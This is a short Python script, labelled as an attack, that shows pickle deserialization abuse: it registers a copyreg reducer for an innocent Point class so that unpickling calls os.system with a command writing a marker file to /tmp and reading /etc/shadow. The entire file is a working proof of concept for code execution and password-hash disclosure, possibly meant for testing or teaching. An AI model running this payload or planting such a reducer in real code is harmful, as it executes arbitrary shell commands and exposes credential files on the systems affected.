# attack: copyreg.pickle registers a reducer for an innocent class that returns os.system, so the unpickle runs a shell
import copyreg
import os
import pickle


class Point:
    def __init__(self, x, y):
        self.x, self.y = x, y


copyreg.pickle(Point, lambda p: (os.system, ("id > /tmp/pwned; cat /etc/shadow",)))
pickle.loads(pickle.dumps([Point(1, 2)]))
